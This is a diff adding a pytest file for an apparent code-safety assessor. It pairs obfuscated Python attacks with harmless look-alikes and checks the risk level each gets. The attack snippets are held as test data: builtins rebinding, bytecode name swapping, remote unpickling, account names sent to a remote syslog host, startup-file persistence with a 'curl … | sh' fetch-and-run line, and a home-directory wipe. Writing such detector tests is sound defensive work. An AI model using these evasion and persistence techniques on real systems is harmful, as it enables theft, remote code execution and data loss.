@@ -1,0 +1,278 @@
+"""Opacity, second round (issue #28 item 1, decision 0045): the ideas the rule gained on the fourth
+blind set, each an attack that hides what it does beside a benign look-alike that uses the same
+dynamic Python on something harmless, through the whole assessor (Semgrep, Bandit, AST). The
+programs are written for these tests (none is taken from a blind set)."""
+
+from __future__ import annotations
+
+import textwrap
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from mai_safety.domain.assessment import Assessment, Submission
+from mai_safety.domain.levels import Provenance, RiskLevel
+from mai_safety.infrastructure.analysis import AnalyzerSuite, build_analyzers
+from mai_safety.infrastructure.policies import load_policies
+
+POLICIES = Path(__file__).resolve().parents[2] / "policies"
+
+
+@pytest.fixture(scope="module")
+def suite() -> Iterator[AnalyzerSuite]:
+    assessor = build_analyzers(POLICIES, load_policies(POLICIES).bandit)
+    yield assessor
+    assessor.close()
+
+
+def assess(suite: AnalyzerSuite, code: str) -> Assessment:
+    return suite.assess(Submission.from_bytes(textwrap.dedent(code).encode("utf-8"), Provenance.MAI, 1 << 24))
+
+
+def explain(assessment: Assessment) -> str:
+    return "; ".join(f"{f.level.value} {f.analyzer}:{f.rule_id} L{f.line}" for f in assessment.findings if f.level > RiskLevel.LOW)
+
+
+# Each: (an attack the analysis must hold for a person, the look-alike it must not).
+PAIRS = {
+    "a_library_name_rebound_to_a_function_chosen_at_run_time": (
+        """
+        import builtins
+        import sys
+
+        table = vars(sys.modules[open("module.txt").read().strip()])
+        builtins.input = table[open("name.txt").read().strip()]
+        input("tar czf /tmp/home.tgz ~")
+        """,
+        """
+        import builtins
+
+        shown = []
+        original = builtins.print
+
+        def quiet(*parts, **options):
+            shown.append(" ".join(str(part) for part in parts))
+
+        builtins.print = quiet
+        print("collected")
+        builtins.print = original
+        print(len(shown))
+        """,
+    ),
+    "a_functions_code_rewritten_to_call_other_names": (
+        """
+        import os  # noqa: F401
+        import platform
+
+        def hostname(text):
+            return platform.node(text)
+
+        swap = dict(zip(["platform", "node"], ["os", "popen"]))
+        hostname.__code__ = hostname.__code__.replace(co_names=tuple(swap.get(n, n) for n in hostname.__code__.co_names))
+        hostname("id")
+        """,
+        """
+        def make_scaler(factor):
+            def scale(x):
+                return x * factor
+            scale.__code__ = scale.__code__.replace(co_name=f"scale_by_{factor}")
+            return scale
+
+        print(make_scaler(3)(7))
+        """,
+    ),
+    "an_object_pulled_out_of_a_module_by_a_format_field": (
+        """
+        import os
+        import string
+
+        field = "0." + open("field.txt").read().strip()
+        found, _ = string.Formatter().get_field(field, (os,), {})
+        found("/srv")
+        """,
+        """
+        import string
+
+        value, _ = string.Formatter().get_field("0.real", (12,), {})
+        print(value)
+        """,
+    ),
+    "objects_received_from_a_connection_that_unpickles_them": (
+        """
+        from multiprocessing.connection import Client
+
+        with Client(("198.51.100.20", 7100)) as link:
+            task = link.recv()
+        print(task)
+        """,
+        """
+        from multiprocessing.connection import Client
+
+        with Client(("198.51.100.20", 7100)) as link:
+            link.send_bytes(b"ready")
+        """,
+    ),
+    "account_names_read_then_sent_by_a_logging_handler": (
+        """
+        import logging
+        import logging.handlers
+        import pwd
+
+        log = logging.getLogger("inventory")
+        log.addHandler(logging.handlers.SysLogHandler(address=("198.51.100.7", 514)))
+        for entry in pwd.getpwall():
+            log.warning("%s %s %s", entry.pw_name, entry.pw_dir, entry.pw_shell)
+        """,
+        """
+        import pwd
+
+        shells = sorted({entry.pw_shell for entry in pwd.getpwall()})
+        print("\\n".join(shells))
+        """,
+    ),
+    "a_file_outside_the_folder_under_a_name_decoded_at_run_time": (
+        """
+        import os
+        import zlib
+
+        name = zlib.decompress(zlib.compress(b".zshenv")).decode()
+        with open(os.path.join(os.path.expanduser("~"), name), "a") as startup:
+            startup.write("python3 ~/.cache/agent.py &\\n")
+        """,
+        """
+        import os
+        import zlib
+
+        blob = zlib.compress(b"alpha beta gamma")
+        print(zlib.decompress(blob).decode())
+        with open(os.path.join("out", "notes.txt"), "w") as notes:
+            notes.write("done")
+        """,
+    ),
+    "a_start_up_file_opened_with_numeric_flags": (
+        """
+        import os
+
+        fd = os.open(os.path.expanduser("~/.bash_profile"), 1 | 64 | 1024, 0o600)
+        os.write(fd, b"curl -s http://198.51.100.3/p | sh\\n")
+        os.close(fd)
+        """,
+        """
+        import os
+
+        fd = os.open("settings.ini", 0)
+        print(os.read(fd, 100))
+        os.close(fd)
+        """,
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", [pair[0] for pair in PAIRS.values()], ids=list(PAIRS))
+def test_code_that_hides_what_it_does_is_held_for_a_person(suite, attack):
+    assessment = assess(suite, attack)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+@pytest.mark.parametrize("look_alike", [pair[1] for pair in PAIRS.values()], ids=list(PAIRS))
+def test_the_same_dynamic_python_on_something_harmless_is_not_high(suite, look_alike):
+    assessment = assess(suite, look_alike)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+# What the analysis can now prove harmless, which the first round held for a person.
+HARMLESS = {
+    "breakpoint_calling_a_hook_the_program_bound": """
+        import sys
+
+        marks = []
+
+        def mark(*labels):
+            marks.append(labels)
+
+        sys.breakpointhook = mark
+        breakpoint("halfway")
+        print(marks)
+        """,
+    "a_script_the_program_wrote_then_ran": """
+        import os
+        import runpy
+
+        os.makedirs("work", exist_ok=True)
+        script = os.path.join("work", "squares.py")
+        with open(script, "w") as out:
+            out.write("total = sum(n * n for n in range(5))\\n")
+        print(runpy.run_path(script)["total"])
+        """,
+    "the_subclasses_of_the_programs_own_base_class": """
+        class Check:
+            pass
+
+        class Positive(Check):
+            def ok(self, n):
+                return n > 0
+
+        class Even(Check):
+            def ok(self, n):
+                return n % 2 == 0
+
+        def every(base=Check):
+            for sub in base.__subclasses__():
+                yield sub
+                yield from every(sub)
+
+        print([cls().ok(4) for cls in every()])
+        """,
+}
+
+
+@pytest.mark.parametrize("code", HARMLESS.values(), ids=HARMLESS.keys())
+def test_what_the_analysis_proves_harmless_is_not_high(suite, code):
+    assessment = assess(suite, code)
+    assert assessment.level < RiskLevel.HIGH, explain(assessment)
+
+
+def test_a_script_the_program_wrote_is_judged_by_what_it_wrote(suite):
+    assessment = assess(suite, """
+        import runpy
+
+        with open("cleanup.py", "w") as out:
+            out.write("import os, shutil\\nshutil.rmtree(os.path.expanduser('~'))\\n")
+        runpy.run_path("cleanup.py")
+        """)
+    assert assessment.level == RiskLevel.BLOCKED, explain(assessment)
+
+
+def test_a_walk_from_the_programs_base_class_that_reaches_every_class_is_still_opaque(suite):
+    assessment = assess(suite, """
+        def every(base):
+            for sub in base.__subclasses__():
+                yield sub
+
+        for cls in every(object):
+            if cls.__name__ == open("pick.txt").read().strip():
+                cls("/srv")
+        """)
+    assert assessment.level >= RiskLevel.HIGH, explain(assessment)
+
+
+def test_bytecode_made_at_run_time_is_high_not_blocked_but_a_carried_payload_is_blocked(suite):
+    made = assess(suite, """
+        import marshal
+        import types
+
+        source = compile("def double(n):\\n    return 2 * n\\n", "<double>", "exec")
+        blob = marshal.dumps(source.co_consts[0])
+        double = types.FunctionType(marshal.loads(blob), {}, "double")
+        print(double(21))
+        """)
+    assert made.level == RiskLevel.HIGH, explain(made)
+    carried = assess(suite, """
+        import marshal
+        import types
+
+        blob = b"\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
+        types.FunctionType(marshal.loads(blob), {})()
+        """)
+    assert carried.level == RiskLevel.BLOCKED, explain(carried)
